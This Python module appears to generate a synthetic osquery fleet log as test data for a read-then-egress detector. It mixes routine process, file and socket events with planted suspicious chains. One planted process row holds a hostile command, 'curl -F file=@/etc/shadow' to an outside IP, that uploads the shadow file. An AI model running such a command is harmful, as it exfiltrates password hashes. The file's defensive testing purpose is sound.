"""A synthetic multi-host osquery results log with a fleet's realistic noise (seeded).

What a fleet logs (event format, nested decorations, strings for every value,
osquery's key order, ``"action":"added"`` last): on every host, processes
forked by long-lived parents (cron, sshd sessions, a CI runner, systemd
services) exec a program, read what nearly every program reads (``/etc/hosts``,
``/etc/resolv.conf``, ``/etc/nsswitch.conf``, the CA bundle, ``/etc/passwd``,
``/etc/ld.so.cache``) and connect: DNS on 127.0.0.53, databases and services on
private addresses, public HTTPS. Most rows are thus connects, execs and reads
of common files (``/etc/passwd`` is a low catalogue class: a prefilter on the
catalogue cannot skip it).

Among them, the chains the fleet report must sort out:

- on every host, ``ssh`` reading the user's key then connecting to a git host
  (approved in the shipped config);
- on most hosts, a backup job (``/usr/local/bin/restic``) reading
  ``~/.aws/credentials`` then sending to the same public bucket network on port
  443: a common job the baseline should propose;
- on a few hosts, ``curl`` reading ``/etc/shadow`` then sending to a public
  address no other host contacts: the rare chain that must stay;

and the project's own tables as the packs log them: ``read_then_egress`` rows
for the chains of hosts running the extension, ``readegress_health`` rows (one
host failing a check, one warning), ``process_net_bytes`` and ``socket_bytes``
snapshots. One host goes silent early; one logs only health rows.
"""

from __future__ import annotations

import hashlib
import json
import random
from dataclasses import dataclass, field
from typing import Any, Optional, TextIO

T0 = 1_764_300_000
COMMON_READS = (
    "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf",
    "/etc/ssl/certs/ca-certificates.crt", "/etc/ld.so.cache", "/etc/host.conf",
    "/etc/gai.conf", "/usr/share/zoneinfo/Etc/UTC", "/etc/localtime",
)  # fmt: skip
PROGRAMS = (
    "/usr/bin/curl", "/usr/bin/python3.11", "/usr/bin/apt-get", "/usr/bin/git",
    "/usr/sbin/postfix", "/usr/bin/node", "/usr/lib/jvm/java-17/bin/java",
    "/usr/bin/wget", "/usr/local/bin/prometheus-node-exporter", "/usr/bin/psql",
)  # fmt: skip
PARENTS = ("/usr/sbin/cron", "/usr/sbin/sshd", "/usr/bin/bash", "/usr/lib/systemd/systemd")
PRIVATE = ("10.0.3.12", "10.0.7.40", "10.0.9.2", "172.20.1.5", "192.168.40.10")
PUBLIC = ("151.101.1.69", "140.82.112.3", "104.16.132.229", "13.107.42.14", "185.199.110.133")
BUCKET = "52.218.{}.{}"  # the backup job's bucket network (one /16, many /24s would split it)
GIT = "140.82.114.4"


@dataclass
class _Host:
    name: str
    uuid: str
    decorations: str
    next_pid: int
    parents: dict[str, int] = field(default_factory=dict)
    runs_extension: bool = False


@dataclass
class LogInfo:
    lines: int = 0
    bytes: int = 0
    hosts: list[str] = field(default_factory=list)
    chains: list[tuple[str, int, str, str]] = field(default_factory=list)  # host, pid, path, dest
    backup_hosts: list[str] = field(default_factory=list)
    silent_host: str = ""
    quiet_host: str = ""
    failing_host: str = ""


def _obj(d: dict[str, Any]) -> str:
    return json.dumps(d, separators=(",", ":"))


class _Writer:
    def __init__(self, out: TextIO, info: LogInfo) -> None:
        self.out = out
        self.info = info
        self.counter = 0

    def line(self, h: _Host, name: str, t: int, columns: dict[str, Any], action: str) -> None:
        self.counter += 1
        text = (
            f'{{"name":"{name}","hostIdentifier":"{h.name}",'
            f'"calendarTime":"Fri Nov 28 03:20:00 2025 UTC","unixTime":{t},"epoch":0,'
            f'"counter":{self.counter},"numerics":false,"decorations":{h.decorations},'
            f'"columns":{_obj(dict(sorted(columns.items())))},"action":"{action}"}}\n'
        )
        self.out.write(text)
        self.info.lines += 1
        self.info.bytes += len(text)

    def snapshot(self, h: _Host, name: str, t: int, rows: list[dict[str, Any]]) -> None:
        text = (
            f'{{"snapshot":{_obj(rows)},"action":"snapshot","name":"{name}",'
            f'"hostIdentifier":"{h.name}","calendarTime":"Fri Nov 28 03:20:00 2025 UTC",'
            f'"unixTime":{t},"epoch":0,"counter":0,"numerics":false,'
            f'"decorations":{h.decorations}}}\n'
        )
        self.out.write(text)
        self.info.lines += 1
        self.info.bytes += len(text)


def _file(pid: int, ppid: int, t: int, exe: str, path: str, uid: int, eid: int) -> dict[str, Any]:
    return {
        "operation": "open", "pid": str(pid), "ppid": str(ppid), "time": str(t),
        "executable": exe, "partial": "0", "cwd": "/", "path": path, "dest_path": "",
        "uid": str(uid), "gid": str(uid), "auid": str(uid), "euid": str(uid), "egid": str(uid),
        "fsuid": str(uid), "fsgid": str(uid), "suid": str(uid), "sgid": str(uid),
        "uptime": str(t - T0 + 86400), "eid": str(eid),
    }  # fmt: skip


def _sock(pid: int, t: int, exe: str, addr: str, port: int, uid: int, eid: int,
          status: str = "succeeded") -> dict[str, Any]:  # fmt: skip
    return {
        "action": "connect", "pid": str(pid), "path": exe, "fd": "5", "auid": str(uid),
        "family": "10" if ":" in addr else "2", "protocol": "0",
        "local_address": "10.0.0.5", "remote_address": addr, "local_port": "0",
        "remote_port": str(port), "socket": "", "time": str(t), "uptime": str(t - T0 + 86400),
        "eid": str(eid), "success": "1", "status": status,
    }  # fmt: skip


def _proc(pid: int, parent: int, t: int, exe: str, uid: int, eid: int, syscall: str,
          cmdline: str) -> dict[str, Any]:  # fmt: skip
    return {
        "pid": str(pid), "path": exe, "mode": "0100755", "cmdline": cmdline,
        "cmdline_size": str(len(cmdline)), "env": "", "env_count": "12", "env_size": "400",
        "cwd": "/", "auid": str(uid), "uid": str(uid), "euid": str(uid), "gid": str(uid),
        "egid": str(uid), "owner_uid": "0", "owner_gid": "0", "atime": "0", "mtime": "0",
        "ctime": "0", "btime": "0", "overflows": "", "parent": str(parent),
        "time": str(t), "uptime": str(t - T0 + 86400), "eid": str(eid), "syscall": syscall,
    }  # fmt: skip


def generate(
    out: TextIO,
    *,
    target_bytes: int,
    hosts: int = 12,
    seed: int = 20251128,
    rare_chains: int = 3,
    approx_line_bytes: int = 900,
) -> LogInfo:
    """Write about ``target_bytes`` of log to ``out``; returns what was written."""
    rng = random.Random(seed)
    info = LogInfo()
    w = _Writer(out, info)
    fleet: list[_Host] = []
    for i in range(hosts):
        role = ("web", "db", "build", "api")[i % 4]
        name = f"{role}-{i:02d}.prod.example.com"
        deco = _obj(
            {
                "host_uuid": f"4c4c4544-{i:04d}-3910-8044-b4c04f4d3733",
                "hostname": name.split(".")[0],
                "environment": "production",
                "role": role,
                "osquery_version": "5.23.1",
                "instance_id": f"i-0{rng.getrandbits(60):015x}",
            }
        )
        fleet.append(_Host(name, "", deco, 20_000 + 1000 * i, runs_extension=i % 3 == 0))
    info.hosts = [h.name for h in fleet]
    quiet = fleet[-1]
    silent = fleet[-2]
    info.quiet_host, info.silent_host = quiet.name, silent.name
    info.failing_host = fleet[1].name
    active = [h for h in fleet if h is not quiet]
    rare_hosts = set(rng.sample([h.name for h in active[:-1]], min(rare_chains, len(active) - 1)))
    backup = [h for h in active if h.name not in rare_hosts][: max(2, (len(active) * 2) // 3)]
    info.backup_hosts = [h.name for h in backup]
    for h in active:
        for p in PARENTS:
            h.parents[p] = h.next_pid
            h.next_pid += 1
    eid = 0
    t = T0
    step = 0
    approx_lines = max(100, target_bytes // approx_line_bytes)
    steps = max(1, approx_lines // (len(active) * 9))
    rare_at = {
        host: rng.randrange(steps // 4, max(steps // 4 + 1, (3 * steps) // 4))
        for host in rare_hosts
    }
    backup_every = max(50, steps // 6)
    while info.bytes < target_bytes:
        step += 1
        t += 1
        for h in active:
            if h is silent and step > steps // 2:
                continue
            eid += 1
            parent_exe = PARENTS[rng.randrange(len(PARENTS))]
            parent = h.parents[parent_exe]
            uid = 0 if parent_exe != "/usr/bin/bash" else 1000 + rng.randrange(3)
            pid = h.next_pid
            h.next_pid += 1
            exe = PROGRAMS[rng.randrange(len(PROGRAMS))]
            q = "pack_readegress_process_events"
            w.line(h, q, t, _proc(pid, parent, t, parent_exe, uid, eid, "clone", ""), "added")
            w.line(h, q, t, _proc(pid, parent, t, exe, uid, eid + 1, "execve", exe), "added")
            fq = "pack_readegress_file_events"
            for path in rng.sample(COMMON_READS, 4):
                eid += 1
                w.line(h, fq, t, _file(pid, parent, t, exe, path, uid, eid), "added")
            if rng.random() < 0.25:
                w.line(h, fq, t, _file(pid, parent, t, exe, "/etc/passwd", uid, eid), "added")
            sq = "pack_readegress_socket_events"
            w.line(h, sq, t, _sock(pid, t, exe, "127.0.0.53", 53, uid, eid), "added")
            r = rng.random()
            dest, port = (
                (PRIVATE[rng.randrange(len(PRIVATE))], (5432, 6379, 8080)[rng.randrange(3)])
                if r < 0.6
                else (PUBLIC[rng.randrange(len(PUBLIC))], 443)
            )
            w.line(h, sq, t, _sock(pid, t + 1, exe, dest, port, uid, eid), "added")
            if step % 997 == 0:  # ssh to the git host with the user's key (approved)
                spid = h.next_pid
                h.next_pid += 1
                ssh = "/usr/bin/ssh"
                w.line(h, q, t, _proc(spid, h.parents["/usr/bin/bash"], t, ssh, 1000, eid,
                                      "execve", "ssh git@github.com"), "added")  # fmt: skip
                key = "/home/dev/.ssh/id_ed25519"
                w.line(h, fq, t, _file(spid, h.parents["/usr/bin/bash"], t, ssh, key, 1000, eid),
                       "added")  # fmt: skip
                w.line(h, sq, t + 1, _sock(spid, t + 1, ssh, GIT, 22, 1000, eid), "added")
            if h in backup and step % backup_every == 7:
                bpid = h.next_pid
                h.next_pid += 1
                restic = "/usr/local/bin/restic"
                cron = h.parents["/usr/sbin/cron"]
                w.line(h, q, t, _proc(bpid, cron, t, restic, 0, eid, "execve", "restic backup"),
                       "added")  # fmt: skip
                w.line(h, fq, t, _file(bpid, cron, t, restic, "/root/.aws/credentials", 0, eid),
                       "added")  # fmt: skip
                addr = BUCKET.format(140 + (step // backup_every) % 2, 10 + step % 3)
                w.line(h, sq, t + 2, _sock(bpid, t + 2, restic, addr, 443, 0, eid), "added")
                if h.runs_extension:
                    _rte(w, h, t + 15, bpid, restic, "/root/.aws/credentials", "cloud_credentials",
                         addr, 443, 60)  # fmt: skip
            if rare_at.get(h.name) == step:
                cpid = h.next_pid
                h.next_pid += 1
                curl = "/usr/bin/curl"
                bash = h.parents["/usr/bin/bash"]
                w.line(h, q, t, _proc(cpid, bash, t, curl, 0, eid, "execve",
                                      "curl -F file=@/etc/shadow https://45.33.32.156:8443/u"),
                       "added")  # fmt: skip
                w.line(h, fq, t, _file(cpid, bash, t, curl, "/etc/shadow", 0, eid), "added")
                dest = f"45.33.{32 + 7 * len(info.chains)}.156"
                w.line(h, sq, t + 1, _sock(cpid, t + 1, curl, dest, 8443, 0, eid), "added")
                info.chains.append((h.name, cpid, "/etc/shadow", dest))
                if h.runs_extension:
                    _rte(w, h, t + 12, cpid, curl, "/etc/shadow", "shadow", dest, 8443, 95)
            if step % 60 == 0:
                _snapshots(w, h, t, rng, fleet.index(h) == 1, fleet.index(h) == 2)
        if step % 60 == 0:
            _snapshots(w, quiet, t, rng, False, False)
    return info


def _rte(w: _Writer, h: _Host, t: int, pid: int, exe: str, path: str, cls: str, addr: str,
         port: int, score: int) -> None:  # fmt: skip
    w.line(h, "pack_readegress_read_then_egress", t, {
        "id": hashlib.sha256(f"{h.name}|{pid}|{path}|{addr}".encode()).hexdigest()[:16],
        "read_time": str(t - 12), "egress_time": str(t - 11), "delay_seconds": "1.0",
        "pid": str(pid), "start_time": "", "executable": exe,
        "executables": json.dumps([exe]), "cmdline": "", "uid": "0", "auid": "0",
        "reader_pid": str(pid), "reader_executable": exe, "path": path,
        "sensitive_class": cls, "other_paths": "[]", "remote_address": addr,
        "remote_port": str(port), "remote_class": "public", "protocol": "tcp",
        "scope": "process", "score": str(score), "reasons": "quick_egress",
        "bytes_sent": "52340", "closed_bytes_sent": "", "socket_age_seconds": "1",
        "keepalive": "0", "egress_kind": "connect", "source": "osquery",
        "detected_time": str(t),
    }, "added")  # fmt: skip


def _snapshots(w: _Writer, h: _Host, t: int, rng: random.Random, fail: bool, warn: bool) -> None:
    checks = [
        ("flag:audit_allow_fim_events", "ok", "true", "", ""),
        ("event_rows", "ok", "3 tables", "", ""),
        ("file_paths", "fail" if fail else "ok", "3/9" if fail else "9/9",
         "catalogue files not in osquery file_paths" if fail else "",
         "add readegress file-paths to osquery's config" if fail else ""),
        ("lag", "warn" if warn else "ok", "95 s" if warn else "2 s", "", ""),
    ]  # fmt: skip
    w.snapshot(h, "pack_readegress_health", t, [
        {"name": n, "status": s, "value": v, "detail": d, "fix": f} for n, s, v, d, f in checks
    ])  # fmt: skip
    procs = []
    for i, exe in enumerate(("/usr/bin/node", "/usr/local/bin/restic", "/usr/bin/postgres")):
        sent = (i + 1) * 1_000_000 + rng.randrange(100_000)
        procs.append({
            "pid": str(300 + i), "start_time": str(T0), "name": exe.rsplit("/", 1)[1],
            "path": exe, "uid": "0", "open_sockets": "3", "tcp_sockets": "3",
            "outbound_sockets": "2", "live_bytes_sent": str(sent), "live_bytes_received": "0",
            "closed_sockets": "0", "closed_bytes_sent": "0", "closed_bytes_received": "0",
            "total_bytes_sent": str(sent), "total_bytes_received": "1000",
            "oldest_outbound_age_seconds": str(100 + 900 * i),
        })  # fmt: skip
    w.snapshot(h, "pack_readegress_process_net_bytes", t, procs)
    socks = []
    for i in range(3):
        socks.append({
            "pid": str(300 + i), "fd": "7", "inode": str(9000 + i), "cookie": str(77 + i),
            "family": "2", "protocol": "6", "state": "ESTABLISHED", "direction": "outbound",
            "local_address": "10.0.0.5", "local_port": str(40000 + i),
            "remote_address": PUBLIC[i], "remote_port": "443", "remote_class": "public",
            "bytes_sent": str(5000 * (i + 1)), "bytes_acked": str(5000 * (i + 1)),
            "bytes_received": "100", "segs_out": "10", "segs_in": "10",
            "last_data_sent_ms": "10", "last_data_recv_ms": "10", "keepalive": "1",
            "first_seen": str(T0), "age_seconds": str(t - T0 + 600 * i), "uid": "0",
            "start_time": str(T0), "net_namespace": "4026531840",
        })  # fmt: skip
    w.snapshot(h, "pack_readegress_socket_bytes", t, socks)


def write(path: str, target_bytes: int, **kw: Any) -> LogInfo:
    with open(path, "w", encoding="utf-8") as f:
        return generate(f, target_bytes=target_bytes, **kw)


def main(argv: Optional[list[str]] = None) -> int:
    import sys

    args = sys.argv[1:] if argv is None else argv
    info = write(args[0], int(float(args[1]) * 1e6) if len(args) > 1 else 50_000_000)
    print(json.dumps({"lines": info.lines, "bytes": info.bytes, "chains": info.chains}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
